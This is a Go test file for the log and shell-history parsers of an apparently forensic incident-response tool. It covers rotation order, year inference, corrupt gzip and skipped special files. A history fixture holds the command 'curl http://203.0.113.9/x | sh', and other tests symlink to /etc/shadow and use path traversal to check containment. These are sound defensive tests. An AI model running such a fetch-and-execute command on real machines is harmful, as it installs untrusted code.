package logs

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-ir/vigil/internal/logs/utmptest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
)

// logFile is a file of a test root: its content, gzip or not, and mtime.
type logFile struct {
	name  string
	text  string
	gzip  bool
	mtime time.Time
}

func writeRoot(t *testing.T, files ...logFile) *target.Target {
	t.Helper()
	return writeRootAt(t, t.TempDir(), files...)
}

// writeRootAt writes the files under dir and returns it as a target.
func writeRootAt(t testing.TB, dir string, files ...logFile) *target.Target {
	t.Helper()
	for _, f := range files {
		p := filepath.Join(dir, filepath.FromSlash(f.name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		data := []byte(f.text)
		if f.gzip {
			data = gz(t, f.text)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		if !f.mtime.IsZero() {
			if err := os.Chtimes(p, f.mtime, f.mtime); err != nil {
				t.Fatal(err)
			}
		}
	}
	return target.NewUnchecked(dir, false)
}

func gz(t testing.TB, s string) []byte { return utmptest.Gzip([]byte(s)) }

func readAll(t *testing.T, tg *target.Target, src Source, opts Options) ([]model.Event, Coverage, *target.GapLog) {
	t.Helper()
	var gaps target.GapLog
	var evs []model.Event
	cov, err := Read(tg, &gaps, src, opts, func(ev *model.Event) error {
		evs = append(evs, *ev)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return evs, cov, &gaps
}

func TestRotatedOrder(t *testing.T) {
	tg := writeRoot(t,
		logFile{name: "var/log/auth.log", text: "x\n"},
		logFile{name: "var/log/auth.log.1", text: "x\n"},
		logFile{name: "var/log/auth.log.2.gz", text: "x\n", gzip: true},
		logFile{name: "var/log/auth.log.10.gz", text: "x\n", gzip: true},
		logFile{name: "var/log/auth.log.bak", text: "x\n"},
		logFile{name: "var/log/auth.logger", text: "x\n"},
		logFile{name: "var/log/secure", text: "x\n"},
		logFile{name: "var/log/secure-20261101", text: "x\n"},
		logFile{name: "var/log/secure-20261025.gz", text: "x\n", gzip: true},
	)
	src, ok := Rotated(tg, "/var/log/auth.log", FormatAuth)
	if !ok {
		t.Fatal("not found")
	}
	var got []string
	for _, f := range src.Files {
		got = append(got, f.Path)
	}
	want := "/var/log/auth.log.10.gz /var/log/auth.log.2.gz /var/log/auth.log.1 /var/log/auth.log"
	if strings.Join(got, " ") != want {
		t.Errorf("auth.log files\n got %s\nwant %s", strings.Join(got, " "), want)
	}
	src, _ = Rotated(tg, "/var/log/secure", FormatAuth)
	got = got[:0]
	for _, f := range src.Files {
		got = append(got, f.Path)
	}
	if want := "/var/log/secure-20261025.gz /var/log/secure-20261101 /var/log/secure"; strings.Join(got, " ") != want {
		t.Errorf("secure files\n got %s\nwant %s", strings.Join(got, " "), want)
	}
	var names []string
	for _, s := range Discover(tg) {
		names = append(names, s.Name+":"+s.Format)
	}
	if want := "/var/log/auth.log:auth /var/log/secure:auth"; strings.Join(names, " ") != want {
		t.Errorf("Discover: %v, want %s", names, want)
	}
}

// TestYearAcrossNewYear places year-less stamps of a log rotated around
// New Year, in a zone east and one west of UTC, with the files' mtimes kept
// and with them lost (all set to the copy's time).
func TestYearAcrossNewYear(t *testing.T) {
	for _, tz := range []*time.Location{time.FixedZone("UTC+8", 8*3600), time.FixedZone("UTC-5", -5*3600)} {
		local := func(y int, mo time.Month, d, h, mi, s int) time.Time { return time.Date(y, mo, d, h, mi, s, 0, tz) }
		for _, keep := range []bool{true, false} {
			mt := func(tm time.Time) time.Time {
				if keep {
					return tm
				}
				return local(2027, 3, 1, 12, 0, 0)
			}
			tg := writeRoot(t,
				logFile{name: "var/log/auth.log.2.gz", gzip: true, mtime: mt(local(2026, 6, 30, 10, 0, 0)),
					text: "Jun 29 10:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.\nJun 30 10:00:00 h sshd[1]: Received signal 15; terminating.\n"},
				logFile{name: "var/log/auth.log.1", mtime: mt(local(2026, 12, 31, 23, 59, 59)),
					text: "Dec 30 10:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.\nDec 31 23:59:59 h sshd[1]: Received signal 15; terminating.\n"},
				logFile{name: "var/log/auth.log", mtime: mt(local(2027, 1, 1, 8, 0, 0)),
					text: "Dec 31 23:59:59 h sshd[1]: Server listening on 0.0.0.0 port 22.\nJan  1 00:00:01 h sshd[1]: Received signal 15; terminating.\nJan  1 08:00:00 h sshd[1]: Server listening on 0.0.0.0 port 22.\n"},
			)
			src, _ := Rotated(tg, "/var/log/auth.log", FormatAuth)
			evs, cov, _ := readAll(t, tg, src, Options{Location: tz})
			want := []time.Time{
				local(2026, 6, 29, 10, 0, 0), local(2026, 6, 30, 10, 0, 0),
				local(2026, 12, 30, 10, 0, 0), local(2026, 12, 31, 23, 59, 59),
				local(2026, 12, 31, 23, 59, 59), local(2027, 1, 1, 0, 0, 1), local(2027, 1, 1, 8, 0, 0),
			}
			if len(evs) != len(want) || cov.Files != 3 {
				t.Fatalf("%s keep=%v: %d events from %d files", tz, keep, len(evs), cov.Files)
			}
			for i, ev := range evs {
				if !ev.Time.Equal(want[i]) || ev.Time.Location() != time.UTC {
					t.Errorf("%s keep=%v event %d (%s:%d): %s, want %s", tz, keep, i, ev.File, ev.Line, ev.Time, want[i].UTC())
				}
			}
		}
	}
}

// TestYearRotatedAtMidnight: a file of December lines rotated on 1 January
// (its mtime in the new year) stays in the old year.
func TestYearRotatedAtMidnight(t *testing.T) {
	tg := writeRoot(t, logFile{name: "var/log/syslog", mtime: time.Date(2027, 1, 1, 0, 0, 5, 0, time.UTC),
		text: "Dec 31 23:59:00 h CRON[1]: (root) CMD (x)\n"})
	src, _ := Rotated(tg, "/var/log/syslog", FormatSyslog)
	evs, _, _ := readAll(t, tg, src, Options{Location: time.UTC})
	if len(evs) != 1 || evs[0].Time.Year() != 2026 {
		t.Fatalf("got %v", evs)
	}
}

func TestBadInput(t *testing.T) {
	line := "Jan  5 10:00:00 h sshd[1]: Failed password for root from 203.0.113.1 port 2 ssh2\n"
	whole := gz(t, strings.Repeat(line, 2000))
	long := "Jan  5 10:00:01 h sshd[1]: Invalid user " + strings.Repeat("A", 300<<10) + " from 203.0.113.2 port 3\n"
	tg := writeRoot(t,
		logFile{name: "var/log/auth.log", text: line + long + "\x00\x00\x00\n" + line, mtime: time.Date(2026, 1, 6, 0, 0, 0, 0, time.UTC)},
		logFile{name: "var/log/auth.log.1.gz", text: "not gzip at all"},
	)
	if err := os.WriteFile(filepath.Join(tg.Root(), "var/log/auth.log.2.gz"), whole[:len(whole)/2], 0o644); err != nil {
		t.Fatal(err)
	}
	src, _ := Rotated(tg, "/var/log/auth.log", FormatAuth)
	evs, cov, gaps := readAll(t, tg, src, Options{Location: time.UTC})
	if cov.Errors != 2 || len(gaps.Gaps) != 2 {
		t.Errorf("errors %d, gaps %v", cov.Errors, gaps.Gaps)
	}
	for _, g := range gaps.Gaps {
		if !strings.Contains(g.Reason, "logparse.gap.truncated") && !strings.Contains(g.Reason, "logparse.gap.gzip") {
			t.Errorf("gap %v", g)
		}
	}
	if cov.Clipped != 1 || cov.Unparsed != 1 || cov.Files != 3 {
		t.Errorf("coverage %+v", cov)
	}
	// The half of the gzip stream before the cut is read.
	if len(evs) < 100 || evs[len(evs)-1].Kind != "ssh.auth.failed" {
		t.Errorf("%d events", len(evs))
	}
	for _, ev := range evs {
		if len(ev.Raw) > rawLen+8 {
			t.Errorf("raw of %d bytes", len(ev.Raw))
		}
	}
}

func TestStdinAndStop(t *testing.T) {
	text := strings.Repeat("Jan  5 10:00:00 h sshd[1]: Failed password for root from 203.0.113.1 port 2 ssh2\n", 10)
	n := 0
	stop := os.ErrClosed
	_, err := Read(nil, nil, Source{Name: "-", Format: FormatAuth}, Options{Stdin: strings.NewReader(text)}, func(*model.Event) error {
		n++
		if n == 3 {
			return stop
		}
		return nil
	})
	if err != stop || n != 3 {
		t.Errorf("err %v after %d events", err, n)
	}
	if _, err := Read(nil, nil, Source{Name: "-", Format: "nope"}, Options{}, nil); err == nil {
		t.Error("unknown format accepted")
	}
}

func TestTargetLocation(t *testing.T) {
	tg := writeRoot(t, logFile{name: "etc/timezone", text: "Nowhere/Land\n"})
	if loc := TargetLocation(tg); loc != time.UTC {
		t.Errorf("got %v", loc)
	}
	if b, err := os.ReadFile("/usr/share/zoneinfo/Asia/Shanghai"); err == nil {
		tg = writeRoot(t, logFile{name: "etc/localtime", text: string(b)})
		if _, off := time.Date(2026, 1, 1, 0, 0, 0, 0, TargetLocation(tg)).Zone(); off != 8*3600 {
			t.Errorf("offset %d", off)
		}
	}
}

func TestHistorySource(t *testing.T) {
	tg := writeRoot(t,
		logFile{name: "etc/passwd", text: "root:x:0:0::/root:/bin/bash\n"},
		logFile{name: "root/.bash_history", text: "#1763900000\ncurl http://203.0.113.9/x | sh\nls\n", mtime: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)},
		logFile{name: "home/bob/.zsh_history", text: ": 1763000000:0;id\n"},
	)
	var got []string
	for _, src := range Discover(tg) {
		evs, cov, _ := readAll(t, tg, src, Options{})
		if cov.Events != int64(len(evs)) || src.Format != FormatHistory {
			t.Errorf("%s: %+v", src.Name, cov)
		}
		for _, ev := range evs {
			got = append(got, ev.File+"|"+ev.Time.Format(time.RFC3339)+"|"+ev.Object+"|"+ev.Fields["shell"]+"|"+ev.Fields["time_from"])
		}
	}
	want := []string{
		"/root/.bash_history|2025-11-23T12:13:20Z|curl http://203.0.113.9/x | sh|bash|",
		"/root/.bash_history|2026-11-30T00:00:00Z|ls|bash|mtime",
		"/home/bob/.zsh_history|2025-11-13T02:13:20Z|id|zsh|",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestSkippedFiles: a FIFO, a device or a directory in a log's place and a
// symlink to a file that is not there are not read, and each is a gap —
// never a log that silently reads as quiet. A log with only such files is
// still found; a history symlinked to /dev/null is still a disabled history.
func TestSkippedFiles(t *testing.T) {
	line := "Jan  5 10:00:00 h sshd[1]: Failed password for root from 203.0.113.1 port 2 ssh2\n"
	tg := writeRoot(t, logFile{name: "var/log/auth.log", text: line}, logFile{name: "etc/passwd", text: "root:x:0:0::/root:/bin/bash\n"})
	root := tg.Root()
	if err := syscall.Mkfifo(filepath.Join(root, "var/log/auth.log.1"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(root, "var/log/auth.log.2"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/shadow", filepath.Join(root, "var/log/syslog")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../../../../../../../../etc/hostname", filepath.Join(root, "var/log/messages")); err != nil {
		t.Fatal(err) // out of the root: resolved inside it, where it is not
	}
	srcs := map[string]Source{}
	for _, s := range Discover(tg) {
		srcs[s.Name] = s
	}
	auth := srcs["/var/log/auth.log"]
	if len(auth.Files) != 1 || len(auth.Skipped) != 2 {
		t.Fatalf("auth.log: files %+v, skipped %+v", auth.Files, auth.Skipped)
	}
	for _, name := range []string{"/var/log/syslog", "/var/log/messages"} {
		s, ok := srcs[name]
		if !ok || len(s.Files) != 0 || len(s.Skipped) != 1 || s.Skipped[0].Why.ID != "logparse.gap.dangling" {
			t.Errorf("%s: %+v (found %v)", name, s, ok)
		}
	}
	evs, cov, gaps := readAll(t, tg, auth, Options{Location: time.UTC})
	if len(evs) != 1 || cov.Errors != 2 || len(gaps.Gaps) != 2 {
		t.Errorf("auth.log: %d events, %d errors, gaps %v", len(evs), cov.Errors, gaps.Gaps)
	}
	for _, g := range gaps.Gaps {
		if g.Kind != model.GapSkipped || g.Msg.ID != "target.not-regular" {
			t.Errorf("gap %+v", g)
		}
	}
	_, cov, gaps = readAll(t, tg, srcs["/var/log/syslog"], Options{Location: time.UTC})
	if cov.Errors != 1 || len(gaps.Gaps) != 1 || !strings.Contains(gaps.Gaps[0].Reason, "/etc/shadow") {
		t.Errorf("syslog: %d errors, gaps %v", cov.Errors, gaps.Gaps)
	}
}
